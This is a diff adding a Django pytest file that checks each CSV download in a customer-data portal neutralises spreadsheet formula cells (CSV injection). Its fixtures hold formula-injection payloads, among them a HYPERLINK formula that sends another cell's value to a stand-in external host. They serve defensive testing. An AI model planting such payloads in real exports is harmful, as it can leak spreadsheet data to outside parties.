@@ -1,0 +1,127 @@
+"""Every CSV the portal writes neutralises cells a spreadsheet would run as a formula.
+
+OWASP "CSV Injection": a cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
+return is prefixed with a single quote (defusedcsv), so Excel and LibreOffice show it as
+text. Tested through each download a user can reach.
+"""
+
+import csv
+import io
+
+import pytest
+
+from customers.models import Classification
+from portal.audit import audit_record
+from tests.consent.test_sharing import approve_all, share
+from tests.customers.conftest import EMAIL_MARKETING, consent
+from tests.customers.test_grants import approved_grant
+from tests.factories import CustomerFactory, DataAssetFactory
+
+pytestmark = pytest.mark.django_db
+
+SUM = "=1+2"
+LINK = '=HYPERLINK("http://x.example/?"&A2,"open")'
+PHONE = "+4712345678"
+
+
+def rows_of(body: bytes | str) -> list[dict]:
+    text = body.decode() if isinstance(body, bytes) else body
+    return list(csv.DictReader(io.StringIO(text)))
+
+
+@pytest.fixture
+def dangerous_asset(owner):
+    """Three customers whose name or phone a spreadsheet would run; all agreed to
+    marketing e-mail and to third-party sharing."""
+    asset = DataAssetFactory(
+        owner=owner,
+        name="Dangerous list",
+        categories=["user.name", "user.contact"],
+        collected_for=["essential.service"],
+        classification=Classification.INTERNAL,
+        classification_confirmed=True,
+    )
+    people = [
+        CustomerFactory(name=SUM, phone=PHONE),
+        CustomerFactory(name=LINK, phone="-1+2"),
+        CustomerFactory(name="@SUM(A1)", phone="\tcmd"),
+    ]
+    asset.customers.add(*people)
+    consent(people)
+    consent(people, "third_party_sharing")
+    return asset
+
+
+def assert_neutralised(rows: list[dict]) -> None:
+    by_name = {row["name"]: row for row in rows}
+    assert set(by_name) == {"'" + SUM, "'" + LINK, "'@SUM(A1)"}
+    assert by_name["'" + SUM]["phone"] == "'" + PHONE
+    assert by_name["'" + LINK]["phone"] == "'-1+2"
+    assert by_name["'@SUM(A1)"]["phone"] == "'\tcmd"
+
+
+def test_grant_export_through_the_api_neutralises_formula_cells(
+    api_client, requester, dangerous_asset
+):
+    from consent.models import Purpose
+
+    grant = approved_grant(requester, dangerous_asset, Purpose.objects.get(key=EMAIL_MARKETING))
+    api_client.force_authenticate(requester)
+
+    response = api_client.get(f"/api/grants/{grant.pk}/export/")
+
+    assert response.status_code == 200
+    assert_neutralised(rows_of(b"".join(response.streaming_content)))
+
+
+def test_sharing_package_neutralises_formula_cells(
+    api_client, requester, owner, compliance_officer, legal_counsel, dangerous_asset
+):
+    shared = share(requester, dangerous_asset, categories=["user.name", "user.contact"])
+    package = approve_all(shared, owner, compliance_officer, legal_counsel)
+    api_client.force_authenticate(requester)
+
+    response = api_client.get(f"/api/sharing-requests/{package.request_id}/package/")
+
+    assert response.status_code == 200
+    assert_neutralised(rows_of(response.content))
+
+
+def test_audit_csv_neutralises_formula_cells_the_same_way(client, compliance_officer, owner):
+    asset = DataAssetFactory(owner=owner, name=LINK)
+    audit_record(actor=None, action="x.y", target=asset, actor_label=PHONE)
+    audit_record(actor=None, action="x.z", target=asset, actor_label="\rtext")
+    client.force_login(compliance_officer)
+
+    body = b"".join(client.get("/audit/export.csv", {"action": "x"}).streaming_content)
+
+    rows = rows_of(body)
+    assert {row["target_label"] for row in rows} == {"'" + LINK}
+    assert {row["actor_label"] for row in rows} == {"'" + PHONE, "'\rtext"}
+
+
+def test_ordinary_values_and_negative_numbers_are_left_alone():
+    from portal.csv_export import csv_text
+
+    text = csv_text(["a", "b", "c"], [{"a": "Kari Nordmann", "b": "-12.5", "c": 7}])
+
+    assert rows_of(text) == [{"a": "Kari Nordmann", "b": "-12.5", "c": "7"}]
+
+
+def test_no_csv_is_written_outside_the_one_safe_writer():
+    """A guard for code added later: the portal's apps write CSV only through
+    ``portal.csv_export`` (the only module that may build a writer or a text/csv answer)."""
+    from pathlib import Path
+
+    root = Path(__file__).resolve().parents[2]
+    allowed = root / "portal" / "csv_export.py"
+    needles = ("csv.writer(", "csv.DictWriter(", 'content_type="text/csv')
+    offenders = [
+        f"{path.relative_to(root)}: {needle}"
+        for app in ("customers", "consent", "incidents", "portal")
+        for path in sorted((root / app).rglob("*.py"))
+        if path != allowed and "migrations" not in path.parts
+        for needle in needles
+        if needle in path.read_text(encoding="utf-8")
+    ]
+    assert offenders == []
